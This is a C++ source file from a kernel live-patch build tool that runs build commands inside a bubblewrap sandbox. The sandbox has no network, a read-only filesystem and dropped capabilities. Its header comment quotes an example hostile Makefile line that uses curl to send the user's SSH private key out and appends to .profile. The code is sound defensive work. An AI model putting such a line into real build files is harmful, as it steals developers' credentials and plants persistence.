// Patches and sources run as whoever builds them
//
// A kernel's Makefiles are programs: `$(shell …)` runs when they are read, before anything is compiled, and host
// programs are compiled and run. A patch from a mailing list may hold either:
//
//     +X := $(shell curl -d @$(HOME)/.ssh/id_ed25519 …; echo … >>$(HOME)/.profile)
//
// So each command of a build runs in namespaces of its own, made by bubblewrap: the file system is there as it is, but
// read-only, except for the cache (in which the scratch folder lies); there is no network; other processes aren't to be
// seen. TMPDIR is in the scratch folder, since /tmp is read-only too. Root loses what it could undo that with: all
// capabilities but those over files' owners, and /proc/sys, which asks for no capability.
//
// The namespace of processes has another use: all of a command is gone when its bwrap is, and bwrap goes with us.
// Thus a session of its own (against input faked into the caller's terminal) costs nothing: the group that Executor
// signals is bwrap's.
//
// Outside are those that need a network: apt, and compiles by --launcher. What isn't kept in: what a command reads, and
// sockets in the file system that it may connect to. Measured: 4 ms of processor time a
// command, 8 ms until it runs where all processors are busy.
#include "kpatch-build/sandbox.h"

#include <unistd.h>

#include <initializer_list>
#include <string_view>
#include <utility>

#include "kernel/kernel.h"
#include "support/files.h"
#include "support/text.h"

namespace kpatch {

namespace fs = std::filesystem;

std::vector<std::string> sandbox_words(const std::vector<fs::path>& writable) {
  std::vector<std::string> words = {"bwrap", "--ro-bind", "/", "/", "--dev", "/dev"};
  const auto add = [&](std::initializer_list<std::string> more) { words.insert(words.end(), more); };
  add({"--ro-bind-try", "/dev/shm", "/dev/shm", "--proc", "/proc", "--ro-bind-try", "/proc/sys", "/proc/sys"});
  add({"--unshare-net", "--unshare-pid", "--unshare-ipc", "--new-session", "--die-with-parent"});
  if (geteuid() == 0) {
    add({"--cap-drop", "ALL"});
    for (const char* kept : {"CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_FSETID"})
      add({"--cap-add", kept});
  }
  for (const fs::path& folder : writable) add({"--bind", folder.string(), folder.string()});
  words.emplace_back("--");
  return words;
}

std::vector<fs::path> writable_folders(const fs::path& cache_root) {
  std::vector<fs::path> folders = {cache_root};
  for (const auto& entry : entries_of(cache_root)) {
    std::error_code gone;
    if (!entry.is_symlink() || !fs::is_directory(entry.path(), gone)) continue;
    if (fs::path target = fs::canonical(entry.path(), gone); !gone) folders.push_back(std::move(target));
  }
  return folders;
}

std::optional<NoSandbox> enter_sandbox(Executor& executor, const std::vector<fs::path>& writable,
                                       const fs::path& scratch) {
  if (!find_program("bwrap")) return NoSandbox{"bwrap isn't installed", "install it" + package_hint({"bwrap"})};
  const std::vector<std::string> words = sandbox_words(writable);
  std::vector<std::string> trial = words;
  trial.emplace_back("true");
  const CommandResult result = executor.run({std::move(trial), {}, {}});
  if (!result.ok()) {
    const std::vector<std::string_view> lines = lines_of(result.output);
    return NoSandbox{"bwrap can't make namespaces here", lines.empty() ? std::string() : std::string(lines.front())};
  }
  const fs::path temporary = scratch / "tmp";
  fs::create_directories(temporary);
  executor.confine(words, {{"TMPDIR", temporary.string()}});
  return std::nullopt;
}

}  // namespace kpatch
